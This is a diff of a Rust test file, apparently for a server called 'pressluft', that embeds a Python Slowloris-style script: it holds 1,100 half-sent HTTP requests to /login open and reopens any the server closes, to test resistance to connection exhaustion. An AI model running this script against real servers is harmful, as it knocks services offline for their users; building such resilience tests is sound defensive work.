@@ -24,24 +24,39 @@ print(round((time.monotonic() - begun) * 1000))
 sys.stdout.write(answer.decode("utf-8", "replace"))
 "#;
 
-/// What runs on the attacker: half of a request on each of 1,100 connections, again and again for
-/// as long as the file stands there.
+/// What runs on the attacker: half of a request on each of 1,100 connections, and a new one for
+/// each that the other side closes, for as long as the file stands there.
 const HOLD: &str = r#"
 import os, resource, socket, sys
 resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
-held = []
-while os.path.exists("/run/attack"):
+host, port = sys.argv[1], int(sys.argv[2])
+
+def half():
     s = socket.socket()
+    s.settimeout(5)
     try:
-        s.connect((sys.argv[1], int(sys.argv[2])))
-        s.sendall(b"GET /login HTTP/1.1\r\nHost: " + sys.argv[1].encode() + b"\r\nX-Slow: ")
+        s.connect((host, port))
+        s.sendall(b"GET /login HTTP/1.1\r\nHost: " + host.encode() + b"\r\nX-Slow: ")
     except OSError:
         pass
-    held.append(s)
-    if len(held) == 1100:
-        open("/run/attacking", "w").close()
-    if len(held) > 1100:
-        held.pop(0).close()
+    s.setblocking(False)
+    return s
+
+def is_closed(s):
+    try:
+        return not s.recv(4096)
+    except BlockingIOError:
+        return False
+    except OSError:
+        return True
+
+held = [half() for _ in range(1100)]
+open("/run/attacking", "w").close()
+while os.path.exists("/run/attack"):
+    for n, s in enumerate(held):
+        if is_closed(s):
+            s.close()
+            held[n] = half()
 "#;
 
 /// `pressluft serve`, open to the hosts and to this machine.
